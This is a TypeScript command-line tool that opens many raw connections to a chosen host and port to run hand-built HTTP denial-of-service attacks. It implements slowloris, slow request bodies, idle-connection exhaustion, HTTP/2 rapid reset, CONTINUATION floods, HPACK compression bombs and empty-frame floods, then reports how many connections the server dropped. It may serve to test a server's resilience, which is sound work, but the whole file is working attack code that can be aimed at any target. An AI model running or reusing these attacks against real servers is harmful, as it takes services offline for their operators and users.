// Clients of HTTP that mean harm, as a program of its own: `node hostile-client.ts <kind> <host> <port> <seconds>`. Bytes are written by hand,
// because no library sends what these send. Prints how many connections it opened and how many of them the server ended.
import { connect as connectPlain, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';

const [kind = '', host = '', port = '', seconds = '0'] = process.argv.slice(2);
const end = Date.now() + Number(seconds) * 1000;
const seen = { opened: 0, ended: 0, failed: 0 };

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const settings = frame(4, 0, 0, Buffer.alloc(0));
// :method POST, :scheme https, :path / and :authority x, as HPACK has them.
const plainHeaders = Buffer.from([0x83, 0x87, 0x84, 0x41, 0x01, 0x78]);

function open(tls: boolean): Promise<Socket | undefined> {
  return new Promise((resolve) => {
    const socket = tls
      ? connectTls({ host, port: Number(port), rejectUnauthorized: false, ALPNProtocols: ['h2'] })
      : connectPlain({ host, port: Number(port) });
    const settle = (result: Socket | undefined): void => {
      if (result !== undefined) seen.opened += 1;
      resolve(result);
    };
    socket.once(tls ? 'secureConnect' : 'connect', () => settle(socket));
    socket.on('error', () => {
      seen.failed += 1;
      settle(undefined);
    });
    socket.on('close', () => {
      seen.ended += 1;
      settle(undefined);
    });
    socket.on('data', () => undefined);
  });
}

/** Opens connections at a rate the machine bears, keeps so many, and acts on each at an interval. */
async function keep(
  count: number,
  tls: boolean,
  act: (socket: Socket, turn: number) => void,
  every: number,
): Promise<void> {
  const sockets: Socket[] = [];
  let turn = 0;
  while (Date.now() < end) {
    const live = sockets.filter((socket) => !socket.destroyed && socket.writable);
    sockets.length = 0;
    sockets.push(...live);
    const opened = await Promise.all(Array.from({ length: Math.min(100, count - live.length) }, () => open(tls)));
    for (const socket of opened) if (socket !== undefined) sockets.push(socket);
    for (const socket of sockets) if (socket.writableLength < 1 << 20) act(socket, turn);
    turn += 1;
    await sleep(every);
  }
}

const stream = (turn: number, index: number, perTurn: number): number => 1 + 2 * (turn * perTurn + index);
const began = new WeakSet<Socket>();
const turns = new WeakMap<Socket, number>();

/** The preface once, then what is to be done with the socket's own count of turns. */
function http2(socket: Socket, act: (turn: number) => Buffer): void {
  if (!began.has(socket)) {
    began.add(socket);
    socket.write(Buffer.concat([preface, settings]));
  }
  const turn = turns.get(socket) ?? 0;
  turns.set(socket, turn + 1);
  socket.write(act(turn));
}

const attacks: Readonly<Record<string, () => Promise<void>>> = {
  slowloris: () =>
    keep(
      500,
      false,
      (socket, turn) => socket.write(turn === 0 ? 'GET /meshes HTTP/1.1\r\nhost: x\r\n' : `x-${turn}: y\r\n`),
      500,
    ),
  'slow body': () =>
    keep(
      200,
      false,
      (socket, turn) =>
        socket.write(turn === 0 ? 'PUT /meshes/x HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n' : '{'),
      500,
    ),
  'idle connections': () => keep(10_000, false, () => undefined, 10),
  'rapid reset': () =>
    keep(
      20,
      true,
      (socket) =>
        http2(socket, (turn) =>
          Buffer.concat(
            Array.from({ length: 100 }, (_, index) => {
              const id = stream(turn, index, 100);
              return Buffer.concat([frame(1, 4, id, plainHeaders), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))]);
            }),
          ),
        ),
      10,
    ),
  'continuation flood': () =>
    keep(
      20,
      true,
      (socket) =>
        http2(socket, (turn) =>
          Buffer.concat([
            ...(turn === 0 ? [frame(1, 0, 1, plainHeaders)] : []),
            ...Array.from({ length: 20 }, () =>
              frame(
                9,
                0,
                1,
                Buffer.concat([Buffer.from([0x40, 0x01, 0x61, 0x7f, 0x80, 0x01]), Buffer.alloc(255, 0x62)]),
              ),
            ),
          ]),
        ),
      10,
    ),
  'HPACK bomb': () =>
    keep(
      20,
      true,
      (socket) =>
        http2(socket, (turn) => {
          // One long header into the table, then thousands of references to it, a byte each.
          const long = Buffer.concat([Buffer.from([0x40, 0x01, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4000, 0x62)]);
          const block = Buffer.concat([plainHeaders, long, Buffer.alloc(12_000, 0xbe)]);
          return frame(1, 5, stream(turn, 0, 1), block);
        }),
      50,
    ),
  'empty frames': () =>
    keep(20, true, (socket) => http2(socket, () => Buffer.concat(Array.from({ length: 200 }, () => settings))), 20),
};

const attack = attacks[kind];
if (attack === undefined) throw new Error(`no attack "${kind}"`);
await attack();
console.log(
  `    ${kind} at ${port}: ${seen.opened} connections, ${seen.ended} ended by the server, ${seen.failed} refused`,
);
process.exit(0);
